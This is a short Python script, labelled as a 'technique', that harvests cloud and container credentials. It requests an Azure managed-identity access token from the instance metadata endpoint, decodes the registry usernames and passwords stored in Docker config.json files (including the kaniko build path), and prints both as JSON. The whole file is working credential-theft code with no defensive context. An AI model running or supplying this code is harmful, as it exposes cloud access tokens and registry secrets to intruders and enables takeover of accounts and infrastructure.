# technique: Azure IMDS managed-identity token request plus docker registry auth decode from config.json
import base64, json, os, urllib.request
try:
    q = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
    tok = urllib.request.urlopen(urllib.request.Request(q, headers={"Metadata": "true"}), timeout=3).read().decode()
except Exception:
    tok = ""
regs = {}
for cfg in ("/root/.docker/config.json", os.path.expanduser("~/.docker/config.json"), "/kaniko/.docker/config.json"):
    if os.path.exists(cfg):
        for reg, v in json.load(open(cfg)).get("auths", {}).items():
            if "auth" in v:
                regs[reg] = base64.b64decode(v["auth"]).decode(errors="ignore")
print(json.dumps({"azure": tok, "registries": regs}))
